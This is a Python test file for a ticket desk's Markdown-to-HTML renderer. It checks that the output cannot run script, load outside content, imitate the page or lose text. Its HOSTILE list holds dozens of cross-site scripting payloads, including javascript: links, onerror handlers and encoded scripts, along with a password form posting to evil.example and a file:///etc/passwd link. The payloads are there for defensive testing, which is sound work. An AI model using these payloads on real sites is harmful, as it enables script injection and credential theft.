"""Markdown becomes HTML that cannot run, load, look like the page, or lose a word."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.attacks.payloads import LONG_ONES, PAYLOADS, as_stored
from tests.markdown.drawn import Drawn, harm
from ticketdesk.markdown import html_of

# Marks that mean something, to be put together at random.
MARKS = st.sampled_from(
    [
        *("*", "**", "_", "`", "```", "~~~", "[", "](", ")", "!", "![", "<", ">", "&", "&#x", "&#32;", ";", "\\", "\n", "\n\n"),
        *("# ", "- ", "1. ", "> ", "    ", "\t", "---", "|", ":", '"', "'", "[a]: ", "<!--", "-->", "<![CDATA[", "<?x", "</p>"),
        *("javascript:", "https://a.example", "data:text/html,", "mailto:", "<script>", "<img src=x onerror=alert(1)>"),
        *("\u202e", "\0", "x"),
    ]
)  # fmt: skip

HOSTILE = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/desk/settings)",
    "[x](\\\\evil.example)",
    "[x](tel:+1234)",
    "[x](https:evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example/'onmouseover='alert(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/\" onclick='alert(1)')",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![a](https://evil.example/1.png)](https://a.example)",
    "[a [b](https://b.example)](https://a.example)",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onclick=alert(1)\nx\n```",
    "``` <img src=x onerror=alert(1)>\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "<!-- --><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/\"onclick=alert(1)",
    "javascript://a.example/%0aalert(1)",
    "1. x\n999999999999. y",
    "-1. x",
    "# <img src=x onerror=alert(1)>",
    "> > > <script>alert(1)</script>",
    "[x]: https://a.example '<script>'\n[x]",
    "\\<script>alert(1)\\</script>",
    "a\0<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "*<b*>x</b>",
    "</div></article><h1>ticketdesk says</h1>",
]  # fmt: skip


@pytest.mark.parametrize("words", HOSTILE)
def test_whatever_is_planted_is_harmless(words: str) -> None:
    assert harm(html_of(words)) == []


@pytest.mark.parametrize("words", [as_stored(payload) for payload in (*PAYLOADS, *LONG_ONES)])
def test_every_known_payload_is_harmless(words: str) -> None:
    assert harm(html_of(words)) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(MARKS | st.text(max_size=3), max_size=30).map("".join))
def test_no_marks_put_together_do_harm_or_leave_nothing_to_see(words: str) -> None:
    html = html_of(words)
    assert harm(html) == []
    assert bool(Drawn(html).text.strip()) == bool(words.strip())


@pytest.mark.parametrize(
    "breach", ["<b>x</b>", "<p onclick=x>", "<a href=/x>", "<img>", "<ol start=x>", "<!-- -->"]
)
def test_harm_is_seen(breach: str) -> None:
    assert harm(breach)


def test_what_agents_write_is_drawn() -> None:
    words = "# Refund\nHello **Mara**,\nit is *sent*.\n\n- one\n- `two`\n\n3. three\n\n> you wrote\n\n```\na < b\n```\n\n---"
    tags = " ".join(tag for tag, _ in Drawn(html_of(words)).parts)
    assert tags == "h3 p strong br em ul li li code ol li blockquote p pre code hr"
    assert '<ol start="3">' in html_of(words)


def test_headings_stand_below_those_of_the_page() -> None:
    tags = [tag for tag, _ in Drawn(html_of("\n".join(f"{'#' * n} x" for n in range(1, 7)))).parts]
    assert tags == ["h3", "h4", "h5", "h6", "h6", "h6"]


def test_a_name_above_a_signature_is_no_heading() -> None:
    assert html_of("Ines\n--\nKestrel") == "<p>Ines<br>\n--<br>\nKestrel</p>"


@pytest.mark.parametrize(
    ("words", "links"),
    [
        ("See https://a.example/x?a=1&b=2.", ["https://a.example/x?a=1&b=2"]),
        ("[here](https://a.example) and mara@b.org", ["https://a.example", "mailto:mara@b.org"]),
        ("Run main.py, read readme.md at example.com", []),
        ("![the invoice](https://a.example/i.png)", ["https://a.example/i.png"]),
        ("![](https://a.example/i.png)", ["https://a.example/i.png"]),
    ],
)
def test_whole_addresses_are_links_and_pictures_too(words: str, links: list[str]) -> None:
    drawn = Drawn(html_of(words))
    assert drawn.links == links
    assert "img" not in dict(drawn.parts)


@pytest.mark.parametrize("words", ["#", "---", "> ", "```", "[a]: https://a.example", "* "])
def test_marks_alone_are_shown_as_they_were_written(words: str) -> None:
    assert Drawn(html_of(words)).text == words.strip()
